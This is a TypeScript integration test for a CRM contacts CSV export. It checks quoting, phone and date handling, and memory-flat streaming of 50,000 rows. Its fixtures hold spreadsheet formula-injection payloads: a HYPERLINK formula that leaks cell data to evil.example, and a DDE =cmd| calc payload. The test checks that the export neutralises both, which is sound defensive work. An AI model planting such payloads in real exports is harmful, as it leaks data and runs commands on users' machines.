/**
 * The contacts CSV export as spreadsheets read it (decision 020): RFC 4180 quoting of line breaks,
 * phones that open as typed, no formula from any field, a Created cell that is a date, checked with
 * Python's `csv` module and by LibreOffice Calc itself; then 50,000 contacts streamed in order
 * with flat memory.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import v8 from 'node:v8';
import vm from 'node:vm';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contacts } from '../../src/db/schema/index.ts';
import { EXPORT_BATCH_SIZE } from '../../src/server/contacts/export-contacts-csv.ts';
import { parseCsvWithPython, readWithLibreOffice } from './helpers/spreadsheet.ts';
import { createTestApp, signIn, type TestApp } from './helpers/test-app.ts';

let t: TestApp;
let cookie: string;

beforeAll(async () => {
  t = await createTestApp();
  cookie = await signIn(t.app);
});
afterAll(async () => t.close());

const HEADER = [
  'ID',
  'Name',
  'Email',
  'Phone',
  'Company',
  'Notes',
  'Status',
  'Prefers text and call',
  'Message',
  'Created (UTC)',
  'Source',
  'Referrer',
  'UTM source',
  'UTM medium',
  'UTM campaign',
  'UTM term',
  'UTM content',
  'Landing path',
  'First view (UTC)',
  'Device',
];
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

async function exportCsv(query = ''): Promise<string> {
  const res = await t.app.inject({
    method: 'GET',
    url: `/api/admin/contacts/export.csv${query}`,
    headers: { cookie },
  });
  expect(res.statusCode).toBe(200);
  return res.body;
}

describe('CSV export read by spreadsheets', () => {
  let ids: number[];

  beforeAll(async () => {
    // Rows written straight to the table: an owner's older data need not have passed today's form.
    const rows = await t.database.db
      .insert(contacts)
      .values([
        {
          name: FORMULA_NAME,
          email: 'sheet-formula@example.com',
          phone: '+44 7700 900123',
          message: 'Line one\nLine two, with a comma and "quotes"',
          notes: 'First note line\r\nSecond note line',
          status: 'qualified',
          preferTextAndCall: true,
          createdAt: new Date('2026-11-23T10:00:00.123Z'),
        },
        {
          name: 'Ana Núñez',
          email: 'sheet-ana@example.com',
          phone: '(555) 123-4567',
          message: '-20% for a second site?',
          notes: '@follow-up Monday',
          createdAt: new Date('2026-01-02T03:04:05Z'),
        },
        {
          name: '＝1+1',
          email: 'sheet-legacy@example.com',
          phone: "=cmd|' /C calc'!A0",
          message: '+1 for the plan\rold Mac line break',
          createdAt: new Date('2025-12-31T23:59:59Z'),
        },
        {
          name: 'שלום 😀',
          email: 'sheet-rtl@example.com',
          phone: '+4915112345678',
          message: 'Plain',
          createdAt: new Date('2026-06-15T12:00:00Z'),
        },
      ])
      .returning({ id: contacts.id });
    ids = rows.map((r) => r.id).sort((a, b) => b - a);
  });

  it('keeps every field in its record for Python csv, with phones safe from formulas and dates spreadsheets read', async () => {
    const csv = await exportCsv('?q=sheet-');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const records = parseCsvWithPython(csv);
    expect(records[0]).toEqual(HEADER);
    expect(records).toHaveLength(5);
    for (const record of records) expect(record).toHaveLength(HEADER.length);
    expect(records.slice(1).map((r) => Number(r[0]))).toEqual(ids);
    const byEmail = new Map(records.slice(1).map((r) => [r[2], r]));
    expect(byEmail.get('sheet-formula@example.com')).toEqual([
      String(ids[3]),
      `'${FORMULA_NAME}`,
      'sheet-formula@example.com',
      "'+44 7700 900123",
      '',
      'First note line\r\nSecond note line',
      'qualified',
      'yes',
      'Line one\nLine two, with a comma and "quotes"',
      '2026-11-23 10:00:00',
      // No recorded first touch: the source is '(direct)' and its details are empty.
      '(direct)',
      ...Array(9).fill(''),
    ]);
    expect(byEmail.get('sheet-ana@example.com')?.slice(3, 10)).toEqual([
      '(555) 123-4567',
      '',
      "'@follow-up Monday",
      'new',
      'no',
      "'-20% for a second site?",
      '2026-01-02 03:04:05',
    ]);
    const legacy = byEmail.get('sheet-legacy@example.com');
    expect(legacy?.[1]).toBe("'＝1+1");
    expect(legacy?.[3]).toBe("'=cmd|' /C calc'!A0");
    expect(legacy?.[8]).toBe("'+1 for the plan\rold Mac line break");
    expect(byEmail.get('sheet-rtl@example.com')?.slice(1, 4)).toEqual([
      'שלום 😀',
      'sheet-rtl@example.com',
      "'+4915112345678",
    ]);
  });

  for (const options of [
    { detectSpecialNumbers: false, evaluateFormulas: false },
    { detectSpecialNumbers: true, evaluateFormulas: true },
  ]) {
    it(`opens in LibreOffice Calc as the same data (${JSON.stringify(options)})`, async () => {
      const sheet = readWithLibreOffice(await exportCsv('?q=sheet-'), options);
      expect(sheet).toHaveLength(5);
      expect(sheet[0]?.map((c) => c.value)).toEqual(HEADER);
      for (const row of sheet) for (const cell of row) expect(cell.formula).toBeNull();
      const row = (email: string) => {
        const found = sheet.find((r) => r[2]?.value === email);
        if (!found) throw new Error(`no row for ${email}`);
        return found;
      };

      const formula = row('sheet-formula@example.com');
      expect(formula[0]).toMatchObject({ type: 'float', value: String(ids[3]) });
      expect(formula[1]).toMatchObject({ type: 'string', value: `'${FORMULA_NAME}` });
      // The `'` keeps a spreadsheet from reading a `+` or `-` phone as a sum or a number (+ lost).
      expect(formula[3]).toMatchObject({ type: 'string', value: "'+44 7700 900123" });
      expect(formula[8]).toMatchObject({ value: 'Line one\nLine two, with a comma and "quotes"' });
      expect(formula[5]?.value).toMatch(/^First note line\s+Second note line$/);
      expect(row('sheet-ana@example.com')[3]).toMatchObject({ type: 'string', value: '(555) 123-4567' });
      expect(row('sheet-legacy@example.com')[3]).toMatchObject({ value: "'=cmd|' /C calc'!A0" });
      expect(row('sheet-rtl@example.com')[1]).toMatchObject({ value: 'שלום 😀' });
      // Written raw, LibreOffice reads this as the number 4915112345678 (the + lost).
      expect(row('sheet-rtl@example.com')[3]).toMatchObject({ type: 'string', value: "'+4915112345678" });

      const created = formula[9];
      if (options.detectSpecialNumbers)
        expect(created).toEqual({ type: 'date', value: '2026-11-23T10:00:00', formula: null });
      else expect(created).toMatchObject({ type: 'string', value: '2026-11-23 10:00:00' });
    }, 120_000);
  }

  it('applies the search and status filters and sends an attachment', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/admin/contacts/export.csv?q=sheet-&status=qualified',
      headers: { cookie },
    });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    const records = parseCsvWithPython(res.body);
    expect(records.map((r) => r[2])).toEqual(['Email', 'sheet-formula@example.com']);
    expect(parseCsvWithPython(await exportCsv('?q=nobody-matches-this'))).toEqual([HEADER]);
  });
});

describe('CSV export of 50,000 contacts', () => {
  // The rows/s at a million contacts are `npm run bench:scale`'s.
  const TOTAL = 50_000;

  beforeAll(async () => {
    // Only these rows, none with a line break: the check below splits records on CRLF.
    await t.database.db.delete(contacts);
    await t.database.db.execute(sql`
      insert into contacts (name, email, phone, message, created_at)
      select 'Bulk ' || g, 'bulk' || g || '@example.com', '+1 555 ' || lpad(g::text, 6, '0'),
             repeat('A long enough message. ', 12) || g, now()
      from generate_series(1, ${TOTAL}) g`);
  }, 120_000);

  it('streams every row once, newest first, in batches, with flat memory', async () => {
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    const retained = () => {
      gc();
      return process.memoryUsage().heapUsed;
    };

    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
    const port = (t.app.server.address() as AddressInfo).port;
    expect(address).toContain(String(port));
    const started = performance.now();
    const baseline = retained();
    const res = await fetch(`http://127.0.0.1:${port}/api/admin/contacts/export.csv`, {
      headers: { cookie },
    });
    expect(res.status).toBe(200);

    const decoder = new TextDecoder();
    let pending = '';
    let bytes = 0;
    let records = 0;
    let previousId = Number.POSITIVE_INFINITY;
    let outOfOrder = 0;
    let peak = 0;
    let chunks = 0;
    for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += chunk.byteLength;
      const lines = (pending + decoder.decode(chunk, { stream: true })).split('\r\n');
      pending = lines.pop() ?? '';
      for (const line of lines) {
        records++;
        if (records === 1) continue;
        const id = Number(line.slice(0, line.indexOf(',')));
        if (!(id < previousId)) outOfOrder++;
        previousId = id;
      }
      if (++chunks % 200 === 0) peak = Math.max(peak, retained() - baseline);
    }
    const seconds = (performance.now() - started) / 1000;
    expect(pending).toBe('');
    // Every row once, ids strictly descending.
    expect(records - 1).toBe(TOTAL);
    expect(outOfOrder).toBe(0);
    // More than one batch was needed, and what stayed alive was a small part of the output.
    expect(TOTAL).toBeGreaterThan(EXPORT_BATCH_SIZE * 10);
    // A buffered export would retain at least its output (over 15 MB); a streamed one a few batches.
    expect(bytes).toBeGreaterThan(15 * 1024 * 1024);
    expect(peak).toBeLessThan(8 * 1024 * 1024);
    console.log(
      `CSV export: ${TOTAL} rows, ${(bytes / 1048576).toFixed(1)} MB in ${seconds.toFixed(1)} s ` +
        `(${Math.round(TOTAL / seconds)} rows/s); retained heap peak ${(peak / 1048576).toFixed(1)} MB ` +
        `(${t.database.kind})`,
    );
  }, 120_000);

  it('stops cleanly when the download is cut short', async () => {
    const port = (t.app.server.address() as AddressInfo).port;
    // node:http, so the one socket is ours to cut (fetch may keep spare connections open).
    const cut = await new Promise<number>((resolve, reject) => {
      const request = http.get(
        { host: '127.0.0.1', port, path: '/api/admin/contacts/export.csv', headers: { cookie } },
        (response) => {
          response.once('data', (chunk: Buffer) => {
            request.destroy();
            resolve(chunk.length);
          });
        },
      );
      request.on('error', reject);
    });
    expect(cut).toBeGreaterThan(0);
    // The server stays healthy and the next export is whole.
    const records = parseCsvWithPython(await exportCsv(`?q=bulk${TOTAL - 1}@`));
    expect(records.map((r) => r[2])).toEqual(['Email', `bulk${TOTAL - 1}@example.com`]);
  }, 60_000);
});
